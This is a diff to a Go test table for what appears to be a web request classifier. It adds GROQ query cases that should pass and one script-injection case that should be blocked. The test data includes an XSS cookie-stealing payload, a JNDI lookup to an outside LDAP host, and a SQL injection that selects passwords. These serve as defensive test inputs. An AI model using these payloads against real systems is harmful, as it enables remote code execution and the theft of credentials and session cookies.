@@ -22,7 +22,10 @@ func TestQueryLanguages(t *testing.T) {
 		{"Splunk search", "POST", "/splunk/search/jobs", "application/x-www-form-urlencoded", "search=" + url.QueryEscape(`search index=web sourcetype=nginx status>=500 | stats count by uri_path, status | sort - count | head 20`), false},
 		{"GitLab CI file", "POST", "/ci/api/v4/projects/42/ci/lint", "application/json", jsonOf(map[string]string{"content": ci}), false},
 		{"CI file as text", "POST", "/ci/validate", "text/plain", ci, false},
+		{"GROQ query", "GET", "/v2021-10-21/data/query/production?query=" + url.QueryEscape(`*[_type == "product" && count((tags[]->slug.current)[@ in ["vintage", "band-tee"]]) > 0]{_id, title, "slug": slug.current}`), "", "", false},
+		{"GROQ query on a field", "GET", "/v1/data/query/production?query=" + url.QueryEscape(`*[slug.current == "summer-sale" || title match "sale*"] | order(_createdAt desc)[0...10]`), "", "", false},
 		// The other classes keep their scores in such values.
+		{"script in a GROQ query", "GET", "/v1/data/query/production?query=" + url.QueryEscape(`*[_type == "post"]{title, "x": "<script>alert(document.cookie)</script>"}`), "", "", true},
 		{"script in a CQL search", "GET", "/wiki/rest/api/search?cql=" + url.QueryEscape(`title ~ "<script>alert(document.cookie)</script>"`), "", "", true},
 		{"JNDI in a pipeline", "POST", "/ci/validate", "text/plain", ci + "    - echo ${jndi:ldap://198.51.100.23/a}\n", true},
 		{"SQL injection outside a query language", "GET", "/search?q=" + url.QueryEscape(`x' UNION SELECT password FROM users--`), "", "", true},
